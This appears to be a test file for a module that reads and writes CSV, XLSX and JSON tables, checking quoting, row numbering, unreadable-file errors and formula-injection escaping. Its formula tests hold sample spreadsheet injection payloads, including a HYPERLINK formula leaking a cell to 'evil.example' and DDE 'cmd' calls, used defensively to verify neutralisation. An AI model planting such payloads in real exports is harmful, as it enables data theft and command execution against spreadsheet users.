import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { readTable, UnreadableFileError, writeTable, type UnreadableReason } from '../../../src/platform/files/tabular';
import { TempDirs } from '../../support/temp-dirs';

const temp = new TempDirs();

async function unreadable(file: string): Promise<UnreadableFileError> {
  try {
    await readTable(file);
  } catch (error) {
    if (error instanceof UnreadableFileError) return error;
    throw error;
  }
  assert.fail(`${file} was read`);
}

function expectReason(error: UnreadableFileError, reason: UnreadableReason, details: Record<string, string | number> = {}): void {
  assert.equal(error.reason, reason);
  assert.deepEqual(error.details, details);
  assert.equal(error.code, 'FILE_UNREADABLE');
}

describe('reading and writing tables', () => {
  after(() => temp.removeAll());

  describe('CSV', () => {
    it('drops a byte-order mark before the first column name', async () => {
      const table = await readTable(temp.fileWith('m.csv', '\uFEFFname,kind,website\nOlfen,municipality,\n'));
      assert.deepEqual(table.header, ['name', 'kind', 'website']);
      assert.deepEqual(table.rows, [{ row: 2, cells: { name: 'Olfen', kind: 'municipality', website: '' } }]);
    });

    it('keeps quoted cells whole: separators, semicolons, line breaks and doubled quotes', async () => {
      const table = await readTable(temp.fileWith('p.csv', 'id,aliases,summary\ne-akte,"eAkte;DMS","Zeile eins, mit Komma\nZeile zwei mit ""Zitat"""\n'));
      assert.deepEqual(table.rows, [{ row: 2, cells: { id: 'e-akte', aliases: 'eAkte;DMS', summary: 'Zeile eins, mit Komma\nZeile zwei mit "Zitat"' } }]);
    });

    it('skips empty and blank lines but counts them, so row numbers match the spreadsheet', async () => {
      const table = await readTable(temp.fileWith('m.csv', 'name,kind\n\nOlfen,municipality\n  \n,\nSenden,municipality\n'));
      assert.deepEqual(
        table.rows.map((r) => [r.row, r.cells.name]),
        [
          [3, 'Olfen'],
          [6, 'Senden'],
        ],
      );
    });

    it('numbers a row after a cell with a line break as the spreadsheet shows it, not by text line', async () => {
      const table = await readTable(temp.fileWith('p.csv', 'id,summary\na,"eins\nzwei\ndrei"\nb,kurz\n'));
      assert.deepEqual(
        table.rows.map((r) => [r.row, r.cells.id]),
        [
          [2, 'a'],
          [3, 'b'],
        ],
      );
    });

    it('reads CRLF line ends like LF', async () => {
      const table = await readTable(temp.fileWith('m.csv', 'name,kind\r\nOlfen,municipality\r\n'));
      assert.deepEqual(table.rows, [{ row: 2, cells: { name: 'Olfen', kind: 'municipality' } }]);
    });

    it('keeps cells beyond the header under their position, so the importer can point at them', async () => {
      const table = await readTable(temp.fileWith('m.csv', 'name,kind\nOlfen,municipality,extra\n'));
      assert.deepEqual(table.rows[0]!.cells, { name: 'Olfen', kind: 'municipality', '#3': 'extra' });
    });

    it('reads a file with a header only as no rows', async () => {
      const table = await readTable(temp.fileWith('m.csv', 'name,kind,website\n'));
      assert.deepEqual(table, { header: ['name', 'kind', 'website'], headerRow: 1, rows: [] });
    });
  });

  describe('XLSX', () => {
    async function workbookFile(build: (workbook: ExcelJS.Workbook) => void): Promise<string> {
      const workbook = new ExcelJS.Workbook();
      build(workbook);
      const file = path.join(temp.make(), 'table.xlsx');
      await workbook.xlsx.writeFile(file);
      return file;
    }

    it('reads the first sheet with the sheet row numbers, skipping empty rows', async () => {
      const file = await workbookFile((workbook) => {
        const sheet = workbook.addWorksheet('Kommunen');
        sheet.getRow(2).values = ['name', 'kind', 'website'];
        sheet.getRow(3).values = ['Olfen', 'municipality', 'https://www.olfen.de'];
        sheet.getRow(5).values = ['Senden', 'municipality'];
        workbook.addWorksheet('Notizen').getRow(1).values = ['nicht', 'lesen'];
      });
      assert.deepEqual(await readTable(file), {
        header: ['name', 'kind', 'website'],
        headerRow: 2,
        rows: [
          { row: 3, cells: { name: 'Olfen', kind: 'municipality', website: 'https://www.olfen.de' } },
          { row: 5, cells: { name: 'Senden', kind: 'municipality', website: '' } },
        ],
      });
    });

    it('takes what a cell shows: hyperlinks by their text, numbers, formulas by their result, rich text joined', async () => {
      const file = await workbookFile((workbook) => {
        const sheet = workbook.addWorksheet('Projekte');
        sheet.addRow(['id', 'title', 'summary', 'field']);
        sheet.addRow([
          2024,
          { text: 'Bürger-App', hyperlink: 'https://example.org/app' },
          { richText: [{ text: 'fett ', font: { bold: true } }, { text: 'normal' }] },
          { formula: '"Smart"&" Region"', result: 'Smart Region' },
        ]);
      });
      const table = await readTable(file);
      assert.deepEqual(table.rows, [{ row: 2, cells: { id: '2024', title: 'Bürger-App', summary: 'fett normal', field: 'Smart Region' } }]);
    });
  });

  describe('JSON', () => {
    it('reads an array of objects, numbering rows by position and passing values on as found', async () => {
      const table = await readTable(temp.fileWith('p.json', JSON.stringify([{ id: 'a', aliases: ['x', 'y'] }, { id: 'b', phase: 'idea', count: 3 }])));
      assert.deepEqual(table, {
        header: ['id', 'aliases', 'phase', 'count'],
        headerRow: undefined,
        rows: [
          { row: 1, cells: { id: 'a', aliases: ['x', 'y'] } },
          { row: 2, cells: { id: 'b', phase: 'idea', count: 3 } },
        ],
      });
    });

    it('accepts a byte-order mark', async () => {
      const table = await readTable(temp.fileWith('m.json', '\uFEFF[{"name":"Olfen"}]'));
      assert.deepEqual(table.rows, [{ row: 1, cells: { name: 'Olfen' } }]);
    });
  });

  describe('unreadable files', () => {
    it('refuses a CSV whose quote is never closed, naming the row where it opens', async () => {
      const error = await unreadable(temp.fileWith('m.csv', 'name,kind\nOlfen,municipality\n"Senden,municipality\nHavixbeck,municipality\n'));
      expectReason(error, 'csvQuote', { row: 3 });
    });

    it('refuses a CSV with text after a closing quote', async () => {
      const error = await unreadable(temp.fileWith('m.csv', 'name,kind\n"Olfen" Stadt,municipality\n'));
      expectReason(error, 'csvQuote', { row: 2 });
    });

    it('refuses a CSV saved as Windows-1252 instead of guessing the umlauts', async () => {
      const error = await unreadable(temp.fileWith('m.csv', Buffer.from('name,kind\nD\xfclmen,municipality\n', 'latin1')));
      expectReason(error, 'notUtf8');
    });

    it('refuses JSON with a syntax error, naming the line when the parser knows it', async () => {
      const error = await unreadable(temp.fileWith('m.json', '[\n  {"name": "Olfen"},\n  {"name" "Senden"}\n]'));
      expectReason(error, 'jsonSyntax', { line: 3 });
    });

    it('refuses JSON that is an object instead of an array of objects', async () => {
      expectReason(await unreadable(temp.fileWith('m.json', '{"name":"Olfen"}')), 'notArrayOfObjects');
    });

    it('refuses a JSON array holding something other than objects', async () => {
      expectReason(await unreadable(temp.fileWith('m.json', '[{"name":"Olfen"}, ["Senden"], null]')), 'notArrayOfObjects');
    });

    it('refuses a corrupt workbook', async () => {
      expectReason(await unreadable(temp.fileWith('m.xlsx', 'name,kind\nOlfen,municipality\n')), 'notXlsx');
    });

    it('refuses a file it cannot open, with the system reason', async () => {
      expectReason(await unreadable(path.join(temp.make(), 'missing.csv')), 'cannotOpen', { detail: 'ENOENT' });
    });

    it('refuses a format it does not know', async () => {
      expectReason(await unreadable(temp.fileWith('m.txt', 'name\nOlfen\n')), 'unknownFormat');
    });
  });

  describe('writing', () => {
    const columns = ['id', 'aliases', 'summary'];
    const rows = [
      { id: 'e-akte', aliases: ['eAkte', 'DMS'], summary: 'Mit Komma, "Zitat"\nund Zeilenumbruch' },
      { id: 'ris', aliases: [], summary: '' },
    ];

    it('writes CSV with a byte-order mark for Excel, lists joined by semicolons, quoting where needed', async () => {
      const file = path.join(temp.make(), 'out.csv');
      await writeTable(file, columns, rows);
      assert.equal(fs.readFileSync(file, 'utf8'), '\uFEFFid,aliases,summary\ne-akte,eAkte;DMS,"Mit Komma, ""Zitat""\nund Zeilenumbruch"\nris,,\n');
    });

    it('writes JSON with the columns in order and lists as arrays', async () => {
      const file = path.join(temp.make(), 'out.json');
      await writeTable(file, columns, [{ summary: 's', id: 'x', aliases: ['a'] }]);
      assert.equal(fs.readFileSync(file, 'utf8'), '[\n  {\n    "id": "x",\n    "aliases": [\n      "a"\n    ],\n    "summary": "s"\n  }\n]\n');
    });

    for (const extension of ['.csv', '.xlsx']) {
      it(`reads back what it wrote as ${extension}, lists as semicolon-separated cells`, async () => {
        const file = path.join(temp.make(), `out${extension}`);
        await writeTable(file, columns, rows);
        assert.deepEqual(await readTable(file), {
          header: columns,
          headerRow: 1,
          rows: [
            { row: 2, cells: { id: 'e-akte', aliases: 'eAkte;DMS', summary: 'Mit Komma, "Zitat"\nund Zeilenumbruch' } },
            { row: 3, cells: { id: 'ris', aliases: '', summary: '' } },
          ],
        });
      });
    }

    describe('formulas', () => {
      /** What a spreadsheet would take for a formula: a cell, or (German Excel splits CSV at `;`) a part after `;` or a line break. */
      const FORMULA = /(^|[;\r\n])[=+\-@\t\r]/;
      const values = [
        '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
        '@SUM(1+1)*cmd|\' /C calc\'!A0',
        "-2+3+cmd|' /C calc'!A0",
        '+49 2541 18-0',
        '\t=1+1',
        '\r=1+1',
        "'=schon geschützt",
        "''+zweimal",
        'Zeile eins\n-2+3+cmd|x!A0',
        'harmlos - mit Strich',
        "it's",
      ];
      const rows = values.map((value, i) => ({ id: `r${i}`, aliases: [], summary: value }));
      const lists = [{ id: 'liste', aliases: ['eAkte', '=HYPERLINK("https://evil.example")', '@x'], summary: '' }];

      it('writes CSV with a quote before every formula start, also after ; and line breaks, in quoted cells', async () => {
        const file = path.join(temp.make(), 'out.csv');
        await writeTable(file, ['id', 'aliases', 'summary'], [...rows.slice(0, 3), rows[8]!, ...lists]);
        assert.equal(
          fs.readFileSync(file, 'utf8'),
          '\uFEFFid,aliases,summary\n' +
            'r0,,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")"\n' +
            'r1,,"\'@SUM(1+1)*cmd|\' /C calc\'!A0"\n' +
            'r2,,"\'-2+3+cmd|\' /C calc\'!A0"\n' +
            'r8,,"Zeile eins\n\'-2+3+cmd|x!A0"\n' +
            'liste,"eAkte;\'=HYPERLINK(""https://evil.example"");\'@x",\n',
        );
      });

      it('leaves no cell and no part of a cell of a CSV starting a formula', async () => {
        const file = path.join(temp.make(), 'out.csv');
        await writeTable(file, ['id', 'aliases', 'summary'], [...rows, ...lists]);
        const cells = (parse(fs.readFileSync(file, 'utf8'), { bom: true }) as string[][]).flat();
        assert.deepEqual(cells.filter((cell) => FORMULA.test(cell)), []);
      });

      it('leaves no cell of an XLSX starting a formula, and writes no formula cell', async () => {
        const file = path.join(temp.make(), 'out.xlsx');
        await writeTable(file, ['id', 'aliases', 'summary'], [...rows, ...lists]);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.readFile(file);
        const cells: ExcelJS.CellValue[] = [];
        workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push(cell.value)));
        assert.deepEqual(cells.filter((value) => typeof value !== 'string'), []);
        assert.deepEqual(cells.filter((value) => /^[=+\-@\t\r]/.test(String(value))), []);
        assert.deepEqual(cells.slice(3, 6), ['r0', '', '\'=HYPERLINK("https://evil.example/?d="&A1,"Details")']);
        assert.equal(cells.at(-2), 'eAkte;=HYPERLINK("https://evil.example");@x');
      });

      for (const extension of ['.csv', '.xlsx', '.json']) {
        it(`reads back exactly what it wrote as ${extension}, quotes included`, async () => {
          const file = path.join(temp.make(), `out${extension}`);
          await writeTable(file, ['id', 'aliases', 'summary'], [...rows, ...lists]);
          const read = await readTable(file);
          // XLSX is XML, which reads a carriage return as a line feed.
          const expected = extension === '.xlsx' ? values.map((v) => v.replace(/\r/g, '\n')) : values;
          assert.deepEqual(
            read.rows.map((r) => r.cells.summary),
            [...expected, ''],
          );
          assert.deepEqual(read.rows.at(-1)!.cells.aliases, extension === '.json' ? lists[0]!.aliases : lists[0]!.aliases.join(';'));
        });
      }

      it('is the only module that loads a CSV or XLSX library, so every export a feature adds is neutralised here', () => {
        const root = path.join(__dirname, '..', '..', '..', 'src');
        const sources = (fs.readdirSync(root, { recursive: true }) as string[]).filter((f) => f.endsWith('.ts'));
        const loaders = sources.filter((f) => /from '(csv-stringify|csv-parse|exceljs|xlsx)[/']/.test(fs.readFileSync(path.join(root, f), 'utf8')));
        assert.deepEqual(loaders, [path.join('platform', 'files', 'tabular.ts')]);
      });

      it('writes JSON unchanged', async () => {
        const file = path.join(temp.make(), 'out.json');
        await writeTable(file, ['id', 'summary'], [rows[0]!]);
        assert.deepEqual(JSON.parse(fs.readFileSync(file, 'utf8')), [{ id: 'r0', summary: values[0] }]);
      });

      it("reads a CSV cell that someone protected with ' in Excel as the text after it", async () => {
        const table = await readTable(temp.fileWith('p.csv', "id,summary\nx,'=1+1\ny,'harmlos\n"));
        assert.deepEqual(table.rows.map((r) => r.cells.summary), ['=1+1', "'harmlos"]);
      });
    });

    it('creates the folder of the file it writes', async () => {
      const file = path.join(temp.make(), 'neu', 'tief', 'out.json');
      await writeTable(file, ['id'], [{ id: 'x' }]);
      assert.deepEqual((await readTable(file)).rows, [{ row: 1, cells: { id: 'x' } }]);
    });
  });
});
